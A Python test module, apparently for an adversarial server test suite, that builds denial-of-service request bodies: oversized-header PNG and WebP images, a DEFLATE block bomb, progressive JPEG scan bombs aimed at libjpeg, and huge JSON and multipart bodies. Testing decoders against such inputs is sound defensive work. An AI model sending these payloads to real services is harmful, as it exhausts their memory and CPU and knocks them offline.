"""Hostile request bodies, built byte by byte so each one is exactly the attack it names.

Every builder is deterministic (a fixed seed where randomness is needed) and returns bytes; the
harness builds them before an attack starts so building never overlaps the measurement.
"""
import base64
import json
import random
import struct
import zlib


# ---------------------------------------------------------------------------------------------
# PNG


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


def _png(width: int, height: int, colour_type: int, idat: bytes) -> bytes:
    ihdr = struct.pack(">IIBBBBB", width, height, 8, colour_type, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", ihdr) + _png_chunk(b"IDAT", idat) + _png_chunk(b"IEND", b"")


def png_declaring_huge_size(width: int = 7000, height: int = 7000) -> bytes:
    """A 69-byte RGBA PNG whose header declares width x height (under the default pixel limit)
    but whose IDAT holds one empty row: a decoder that sizes its buffers from the header
    allocates width x height x 4 bytes before it has seen any evidence the pixels exist."""
    return _png(width, height, 6, zlib.compress(b"\x00", 9))


def solid_png(width: int, height: int, colour_type: int = 2) -> bytes:
    """A black PNG (colour type 2 RGB or 6 RGBA), compressed row by row (never the whole raster
    in memory): each row is a filter byte 0 and zeros, which zlib packs about a thousand to one."""
    row = b"\x00" * (1 + (4 if colour_type == 6 else 3) * width)
    compressor = zlib.compressobj(9)
    parts = [compressor.compress(row) for _ in range(height)]
    parts.append(compressor.flush())
    return _png(width, height, colour_type, b"".join(parts))


class _BitWriter:
    """DEFLATE's bit order: fields are packed starting at the least significant bit of each byte."""

    def __init__(self):
        self.out = bytearray()
        self.accumulator = 0
        self.count = 0

    def write(self, value: int, bits: int):
        self.accumulator |= value << self.count
        self.count += bits
        while self.count >= 8:
            self.out.append(self.accumulator & 0xFF)
            self.accumulator >>= 8
            self.count -= 8

    def align(self):
        if self.count:
            self.out.append(self.accumulator & 0xFF)
            self.accumulator = 0
            self.count = 0


def deflate_bomb_png(empty_block_bytes: int = 1 << 20) -> bytes:
    """A 1x1 RGB PNG whose zlib stream starts with about `empty_block_bytes` of empty
    fixed-Huffman blocks (10 bits each: BFINAL=0, BTYPE=01, end-of-block code 0000000) and then
    a final stored block with the real row. Valid DEFLATE; an inflater that rebuilds the fixed
    tables for every block spends seconds on it."""
    raw = b"\x00\x10\x20\x30"  # filter 0, one RGB pixel
    bits = _BitWriter()
    # An empty fixed block is the 10 bits 0 (BFINAL), 1 then 0 (BTYPE=01, LSB first), 7 zero
    # bits (code 256): as an integer written LSB-first that is the value 0b10 in 10 bits.
    for _ in range(empty_block_bytes * 8 // 10):
        bits.write(0b010, 10)
    bits.write(1, 1)  # BFINAL
    bits.write(0, 2)  # BTYPE=00, stored
    bits.align()
    stream = bytes(bits.out) + struct.pack("<HH", len(raw), len(raw) ^ 0xFFFF) + raw
    zlib_stream = b"\x78\x01" + stream + struct.pack(">I", zlib.adler32(raw) & 0xFFFFFFFF)
    assert zlib.decompress(zlib_stream) == raw
    return _png(1, 1, 2, zlib_stream)


# ---------------------------------------------------------------------------------------------
# WebP


def webp_lossless_declaring_huge_size(width: int = 7000, height: int = 7000) -> bytes:
    """A ~30-byte lossless WebP (VP8L) whose header declares width x height and whose bitstream
    holds next to nothing: the decoder must not size the ARGB buffer before reading pixels."""
    header = bytearray(b"\x2f")  # VP8L signature
    # 14 bits width-1, 14 bits height-1, 1 bit alpha, 3 bits version (0), little-endian.
    fields = (width - 1) | ((height - 1) << 14) | (0 << 28) | (0 << 29)
    header += struct.pack("<I", fields)
    # Then: no transform (bit 0), no colour cache (bit 0), no meta prefix codes (bit 0), and
    # five "simple" prefix codes of one symbol each (1, 0, 0: one 1-bit symbol 0), so every
    # pixel decodes in zero bits; a few bytes are enough to start decoding.
    bits = _BitWriter()
    bits.write(0, 1)  # no transform
    bits.write(0, 1)  # no colour cache
    bits.write(0, 1)  # no meta prefix codes
    for _ in range(5):
        bits.write(1, 1)  # simple code
        bits.write(0, 1)  # one symbol
        bits.write(0, 1)  # 1-bit symbol
        bits.write(0, 1)  # symbol 0
    bits.align()
    payload = bytes(header) + bytes(bits.out)
    if len(payload) % 2:
        payload += b"\x00"
    chunk = b"VP8L" + struct.pack("<I", len(payload)) + payload
    return b"RIFF" + struct.pack("<I", 4 + len(chunk)) + b"WEBP" + chunk


# ---------------------------------------------------------------------------------------------
# JPEG


def _jpeg_segment(marker: int, payload: bytes) -> bytes:
    return bytes([0xFF, marker]) + struct.pack(">H", len(payload) + 2) + payload


def progressive_jpeg_scan_bomb(size: int = 7000, scans: int = 16800) -> bytes:
    """A size x size greyscale progressive JPEG (SOF2) whose body is `scans` DC scans with no
    entropy-coded data (each scan is its 10-byte SOS header), about 168 KB for 16,800 scans.

    libjpeg accepts it: an empty scan is "insufficient data" (a warning; the coefficients stay
    zero) and a repeated DC scan is a "bogus progression" (a warning), but every scan still walks
    all (size/8)^2 blocks, so the work is scans x blocks. libjpeg-turbo's TJFLAG_LIMITSCANS
    (at most 500 scans) is the guard."""
    dqt = _jpeg_segment(0xDB, b"\x00" + bytes([1] * 64))
    sof2 = _jpeg_segment(0xC2, struct.pack(">BHHB", 8, size, size, 1) + b"\x01\x11\x00")
    # DC table 0: one code of length 1 for category 0 (a DC difference of zero).
    dht = _jpeg_segment(0xC4, b"\x00" + bytes([1] + [0] * 15) + b"\x00")
    # SOS: one component (id 1, DC table 0 / AC table 0), Ss=0, Se=0, Ah=0, Al=0.
    sos = _jpeg_segment(0xDA, b"\x01\x01\x00\x00\x00\x00")
    return b"\xff\xd8" + dqt + sof2 + dht + sos * scans + b"\xff\xd9"


class _JPEGBits:
    """Entropy-coded data: most significant bit first, 0xFF stuffed with 0x00, padded with ones."""

    def __init__(self):
        self.out = bytearray()
        self.accumulator = 0
        self.count = 0

    def write(self, value: int, bits: int):
        self.accumulator = (self.accumulator << bits) | value
        self.count += bits
        while self.count >= 8:
            self.count -= 8
            byte = (self.accumulator >> self.count) & 0xFF
            self.out.append(byte)
            if byte == 0xFF:
                self.out.append(0x00)
        self.accumulator &= (1 << self.count) - 1

    def finish(self) -> bytes:
        if self.count:
            self.write((1 << (8 - self.count)) - 1, 8 - self.count)
        return bytes(self.out)


def _eob_runs(blocks: int) -> bytes:
    """`blocks` end-of-band runs in the fewest EOBr codes (run = 2^r + r extra bits, r <= 14),
    with the AC table below: EOBr (symbol r << 4) is the 4-bit code r."""
    bits = _JPEGBits()
    while blocks:
        r = min(14, blocks.bit_length() - 1)
        run = min(blocks, (2 << r) - 1)
        bits.write(r, 4)
        bits.write(run - (1 << r), r)
        blocks -= run
    return bits.finish()


def legal_progressive_jpeg(size: int = 7000) -> bytes:
    """A size x size greyscale progressive JPEG with the longest legal progression: one DC scan,
    then for each of the 63 AC coefficients a first scan at Al=13 and 13 refinement scans down
    to Al=0 (883 scans). The AC scans hold nothing but end-of-band runs, so each is a few dozen
    bytes however big the image: about 170 KB for 7000 x 7000, every byte valid (no decoder
    warning), and every scan walks all (size/8)^2 blocks."""
    blocks = ((size + 7) // 8) ** 2
    dqt = _jpeg_segment(0xDB, b"\x00" + bytes([1] * 64))
    sof2 = _jpeg_segment(0xC2, struct.pack(">BHHB", 8, size, size, 1) + b"\x01\x11\x00")
    # DC table 0: category 0 (difference 0) is the 1-bit code 0. AC table 0: EOB0..EOB14 are
    # the 4-bit codes 0..14 (15 codes: all but the forbidden 1111).
    dht_dc = _jpeg_segment(0xC4, b"\x00" + bytes([1] + [0] * 15) + b"\x00")
    dht_ac = _jpeg_segment(0xC4, b"\x10" + bytes([0, 0, 0, 15] + [0] * 12) + bytes(r << 4 for r in range(15)))
    dc_bits = _JPEGBits()
    for _ in range(blocks // 32):
        dc_bits.write(0, 32)
    dc_bits.write(0, blocks % 32)
    parts = [b"\xff\xd8", dqt, sof2, dht_dc, dht_ac,
             _jpeg_segment(0xDA, b"\x01\x01\x00\x00\x00\x00"), dc_bits.finish()]
    runs = _eob_runs(blocks)
    for k in range(1, 64):
        for ah, al in [(0, 13)] + [(a, a - 1) for a in range(13, 0, -1)]:
            parts.append(_jpeg_segment(0xDA, bytes([1, 1, 0x00, k, k, (ah << 4) | al])))
            parts.append(runs)
    parts.append(b"\xff\xd9")
    return b"".join(parts)


# ---------------------------------------------------------------------------------------------
# JSON and multipart


def data_uri(image: bytes, mime: str) -> str:
    return f"data:{mime};base64," + base64.b64encode(image).decode()


def json_body(value) -> bytes:
    return json.dumps(value, ensure_ascii=False).encode()


def empty_objects_array(total_bytes: int) -> bytes:
    """`[{},{},...,{}]`, valid JSON, exactly as long as `total_bytes` allows (at most)."""
    count = (total_bytes - 1) // 3  # "[" + "{}," * (n - 1) + "{}]" is 3n + 1 bytes
    return b"[" + b"{}," * (count - 1) + b"{}]"


def multipart(files: list[tuple[str, str, bytes, str]], boundary: str = "adversarial-suite-boundary") -> tuple[bytes, str]:
    """(body, content type) for form fields given as (name, filename, bytes, mime)."""
    parts = []
    for name, filename, data, mime in files:
        parts.append(
            f"--{boundary}\r\nContent-Disposition: form-data; name=\"{name}\"; filename=\"{filename}\"\r\n"
            f"Content-Type: {mime}\r\n\r\n".encode() + data + b"\r\n")
    parts.append(f"--{boundary}--\r\n".encode())
    return b"".join(parts), f"multipart/form-data; boundary={boundary}"


def distinct_long_texts(count: int, each_bytes: int, seed: int = 20261206) -> list[str]:
    """`count` different texts of about `each_bytes` bytes of space-separated words: ordinary
    (linear) tokenisation, so what they test is what the server keeps, not how it tokenises."""
    rng = random.Random(seed)
    words = ["cat", "dog", "red", "car", "house", "tree", "blue", "circle", "small", "photo"]
    texts = []
    for i in range(count):
        head = f"text {i} {rng.random()} "
        body = " ".join(rng.choice(words) for _ in range(each_bytes // 4))
        texts.append((head + body)[:each_bytes])
    return texts
